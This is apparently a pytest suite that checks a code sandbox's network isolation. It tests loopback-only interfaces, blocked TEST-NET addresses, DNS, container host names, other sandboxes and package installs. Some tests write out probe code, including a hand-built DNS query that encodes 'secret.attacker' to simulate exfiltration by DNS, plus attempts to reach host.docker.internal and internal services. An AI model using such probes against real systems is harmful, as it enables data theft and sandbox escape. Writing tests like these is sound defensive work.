"""Network, ABUSE.md N: there is none. What is tried aims at listeners of the test's own and at TEST-NET addresses.

N3-N5 and N8-N11, N14 speak of a proxy for allowed hosts, which no policy has yet: docs/threat-model.md.
"""  # noqa: E501

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.wall.wall import Box, Wall

pytestmark = pytest.mark.engine
NO_WAY = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL"}


@contextmanager
def listening(kind: int, family: int = socket.AF_INET) -> Iterator[socket.socket]:
    with socket.socket(family, kind) as server:
        server.bind(("127.0.0.1" if family == socket.AF_INET else "::1", 0))
        if kind == socket.SOCK_STREAM:
            server.listen()
        server.setblocking(False)
        yield server


def nothing_came(server: socket.socket) -> bool:
    try:
        server.recv(1) if server.type == socket.SOCK_DGRAM else server.accept()
    except BlockingIOError:
        return True
    return False


def test_N01_there_is_only_lo(box: Box) -> None:
    lines = Path(f"/proc/{box.host_pids()[0]}/net/dev").read_text().splitlines()[2:]
    assert [line.split(":")[0].strip() for line in lines] == ["lo"]
    routes = Path(f"/proc/{box.host_pids()[0]}/net/route").read_text().splitlines()[1:]
    assert routes == []


@pytest.mark.parametrize("kind", ["SOCK_STREAM", "SOCK_DGRAM"])
def test_N01_no_address_is_reached(box: Box, kind: str) -> None:
    code = (
        f"kind = socket.{kind}\n"
        "result = [reached(socket.AF_INET, kind, ('192.0.2.1', p)) for p in (53, 80, 443, 853)]"
        " + [reached(socket.AF_INET6, kind, ('2001:db8::1', 443))]"
    )
    assert set(box.value(code)) <= NO_WAY


def test_N01_a_listener_of_the_host_receives_nothing(box: Box) -> None:
    with listening(socket.SOCK_STREAM) as tcp, listening(socket.SOCK_DGRAM) as udp:
        code = (
            f"tcp, udp = {tcp.getsockname()[1]}, {udp.getsockname()[1]}\n"
            "result = [reached(socket.AF_INET, socket.SOCK_STREAM, (a, tcp)) for a in ('127.0.0.1', '127.8.8.8', '0.0.0.0')]\n"  # noqa: E501
            "result += [reached(socket.AF_INET6, socket.SOCK_STREAM, ('::ffff:127.0.0.1', tcp))]\n"
            "for a in ('127.0.0.1', '0.0.0.0'):\n"
            "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b'x', (a, udp))\n"
        )
        assert set(box.value(code)) == {"ECONNREFUSED"}
        assert nothing_came(tcp)
        assert nothing_came(udp)


def test_N02_no_name_is_resolved(box: Box) -> None:
    with listening(socket.SOCK_DGRAM) as resolver:
        code = (
            f"port = {resolver.getsockname()[1]}\n"
            "def resolved(name):\n"
            "    try: socket.getaddrinfo(name, 80)\n"
            "    except socket.gaierror: return 'no'\n"
            "    return 'yes'\n"
            "query = bytes.fromhex('123401000001000000000000') + b'\\x06secret\\x08attacker\\x00\\x00\\x10\\x00\\x01'\n"  # noqa: E501
            "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(query, ('127.0.0.1', port))\n"  # noqa: E501
            "result = [resolved(n) for n in ('secret.attacker.invalid', 'example.com')]"
        )
        assert box.value(code) == ["no", "no"]
        assert nothing_came(resolver)
    assert "nameserver" not in box.value("result = open('/etc/resolv.conf').read()")


def test_N06_no_service_of_the_stack_is_reached_by_name(box: Box) -> None:
    names = [
        "redis",
        "mongo",
        "gateway",
        "worker",
        "host.docker.internal",
        "host.containers.internal",
        "gateway.docker.internal",
    ]
    code = (
        "def way(name):\n"
        "    try: address = socket.getaddrinfo(name, 80)[0][4][0]\n"
        "    except socket.gaierror: return 'unknown'\n"
        "    return reached(socket.AF_INET, socket.SOCK_STREAM, (address, 80))\n"
        f"result = [way(n) for n in {names!r}]"
    )
    # Left: Podman writes host.containers.internal into /etc/hosts; there is no way to it.
    assert set(box.value(code)) <= NO_WAY | {"unknown", "ECONNREFUSED"}


def test_N07_another_sandbox_is_not_reached(wall: Wall) -> None:
    with wall.fresh() as server, wall.fresh() as client:
        listen = (
            "with socket.socket() as s:\n"
            "    s.bind(('0.0.0.0', 5555)); s.listen(); s.settimeout(3)\n"
            "    try: s.accept(); result = 'reached'\n"
            "    except TimeoutError: result = 'nobody'\n"
        )
        knock = (
            "seen = set()\n"
            "until = time.monotonic() + 2.5\n"
            "while time.monotonic() < until:\n"
            "    seen.add(reached(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', 5555))); time.sleep(0.1)\n"  # noqa: E501
            "result = sorted(seen)"
        )
        listened, knocked = wall.together(server.attempt(listen), client.attempt(knock))
    assert listened.result["value"] == "nobody"
    assert knocked.result["value"] == ["ECONNREFUSED"]


def test_N12_no_ping_no_quic_no_dns_over_https(box: Box) -> None:
    code = (
        "def ping():\n"
        "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:\n"
        "        s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]), ('192.0.2.1', 0))\n"
        "result = [tried(ping), reached(socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)),"
        " reached(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 443))]"
    )
    assert set(box.value(code)) <= NO_WAY | {"EACCES", "EPERM"}


def test_N13_without_a_proxy_there_is_no_way_either(box: Box) -> None:
    code = (
        "import requests\n"
        "for name in list(os.environ):\n"
        "    if 'proxy' in name.lower(): del os.environ[name]\n"
        "try: requests.get('http://192.0.2.1/', timeout=3); result = 'reached'\n"
        "except requests.exceptions.ConnectionError: result = 'no way'"
    )
    assert box.value(code) == "no way"


def test_N15_nothing_can_be_installed(box: Box) -> None:
    code = (
        "import importlib.util, shutil, subprocess\n"
        "done = subprocess.run([sys.executable, '-m', 'pip', 'install', 'six'], capture_output=True)\n"
        "result = [importlib.util.find_spec('pip') is None, shutil.which('pip'), shutil.which('apt'),"
        " shutil.which('gcc'), shutil.which('curl'), done.returncode]"
    )
    assert box.value(code) == [True, None, None, None, None, 1]
